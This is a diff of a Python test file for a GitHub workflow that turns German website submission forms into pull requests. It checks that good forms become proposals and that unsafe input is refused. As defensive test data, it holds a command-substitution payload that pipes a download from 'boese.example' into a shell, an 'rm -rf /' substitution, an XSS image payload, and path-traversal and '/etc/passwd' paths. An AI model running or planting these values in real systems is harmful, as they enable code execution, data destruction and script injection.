@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -14,9 +15,14 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
-from github_server import GitHubState, finished_run, pull
 
 from hooks.editing import handover, weblinks
+from hooks.editing.github import GitHub
+from hooks.editing.submission import Submission, propose
+
+from .github_server import GitHubState, finished_run, pull
+from .issues import GOOD, body
+from .issues import event as event_of
 
 ROOT = Path(__file__).resolve().parents[2]
 TODAY = "2026-12-01"
@@ -162,15 +168,64 @@ def test_commands_without_github_say_what_is_missing(repository: Path) -> None:
         assert done.returncode == 1 and "GITHUB_TOKEN" in done.stderr and "Traceback" not in done.stderr
 
 
-def test_a_form_nobody_can_read_gets_an_answer_and_no_proposal(repository: Path, github: GitHubState) -> None:
-    issue = {"action": "opened", "issue": {"number": 31, "title": "x", "body": "$(rm -rf /)", "state": "open", "labels": [{"name": "einreichung"}], "user": {"login": "jemand"}}}
-    path = event(repository, issue)
-    done = step(repository, SUBMISSION, GITHUB_EVENT_PATH=path)
+def filled_in(form: str, number: int, **changes: str) -> dict:
+    answers = dict(GOOD[form])
+    answers.pop("gemeinden", None)
+    answers.pop("themen", None)
+    return {"action": "opened", "issue": event_of(body(form, answers | changes))["issue"] | {"number": number, "labels": [{"name": form}]}}
+
+
+def submit(repository: Path, content: dict, github: GitHubState) -> str:
+    """Both halves of the workflow, each in a fresh checkout of main; returns what the second one says."""
+    subprocess.run(["git", "clean", "--quiet", "-fd", "content", "members", "projects"], cwd=repository, check=True)
+    subprocess.run(["git", "checkout", "--quiet", "--", "."], cwd=repository, check=True)
+    done = step(repository, SUBMISSION, GITHUB_EVENT_PATH=event(repository, content))
     assert done.returncode == 0, done.stderr
+    subprocess.run(["git", "clean", "--quiet", "-fd", "content", "members", "projects"], cwd=repository, check=True)
     done = step(repository, PROPOSE, **github.environment())
-    assert done.stdout == "Meldung 31 hat eine Antwort und keinen Vorschlag.\n"
+    assert done.returncode == 0, done.stderr
+    return done.stdout
+
+
+def test_a_filled_in_form_becomes_a_proposal_and_an_answer(repository: Path, github: GitHubState) -> None:
+    assert submit(repository, filled_in("termin", 31), github) == "Aus Meldung 31 ist Vorschlag 100 geworden.\n"
+    proposal = github.pulls[0]
+    assert (proposal["head"]["ref"], proposal["base"]) == ("einreichung/31", "main")
+    made = github.objects[github.branches["einreichung/31"]]
+    assert made["parents"] == ["0" * 40], "ein Stand auf dem von main"
+    tree = github.objects[made["tree"]]
+    assert tree["base_tree"] == "b" * 40
+    assert [entry["path"] for entry in tree["tree"]] == ["content/termine/lesetag-im-postamt.md"]
+    assert "titel: Lesetag im Postamt" in tree["tree"][0]["content"]
+    assert "Die Website lässt sich damit bauen." in proposal["body"] and "Closes #31" in proposal["body"]
+    assert [c["body"].count("#100") for c in github.comments[31]] == [1]
+    assert github.comments[31][0]["body"].startswith("<!-- zukunftsorte:einreichung -->\nDanke")
+
+
+def test_a_form_that_is_edited_renews_its_proposal_until_somebody_works_on_it(repository: Path, github: GitHubState) -> None:
+    submit(repository, filled_in("termin", 31), github)
+    first = github.branches["einreichung/31"]
+    assert submit(repository, filled_in("termin", 31, ort="Altes Postamt"), github) == "Aus Meldung 31 ist Vorschlag 100 geworden.\n"
+    second = github.branches["einreichung/31"]
+    assert len(github.pulls) == 1 and len(github.comments[31]) == 1 and second != first
+    github.pulls[0]["commits"] = 2
+    assert submit(repository, filled_in("termin", 31, ort="Rathaus"), github) == "Vorschlag 100 bleibt, wie er ist.\n"
+    assert github.branches["einreichung/31"] == second and "weitergearbeitet" in github.comments[31][0]["body"]
+
+
+@pytest.mark.parametrize("changes", [{"titel": "$(curl boese.example | sh)"}, {"einleitung": "<img src=x onerror=alert(1)> @alle"}, {"datum": "gestern"}])
+def test_a_form_that_cannot_be_taken_gets_an_answer_and_no_proposal(repository: Path, github: GitHubState, changes: dict[str, str]) -> None:
+    assert submit(repository, filled_in("termin", 32, **changes), github) == "Meldung 32 hat eine Antwort und keinen Vorschlag.\n"
     assert set(github.branches) == {"main"} and github.pulls == []
-    assert github.comments[31][0]["body"].startswith("<!-- zukunftsorte:einreichung -->\n")
+    assert "nicht übernehmen" in github.comments[32][0]["body"]
+    assert "@alle" not in github.comments[32][0]["body"] and not re.search(r"(?<!\\)<img", github.comments[32][0]["body"])
+
+
+def test_only_content_files_can_be_proposed(github: GitHubState) -> None:
+    for path in (".github/workflows/x.yml", "hooks/x.py", "members/../hooks/x.md", "content/verein.yml", "/etc/passwd", "members/A.md"):
+        with pytest.raises(ValueError, match="darf ein Formular nicht ändern"):
+            list(propose(GitHub("zukunftsorte/website", "geheim", github.address), Submission(number=1, answer="x", files={path: "x"})))
+    assert github.asked == []
 
 
 def test_the_report_of_the_rehearsal_is_one_its_reader_accepts(repository: Path) -> None:
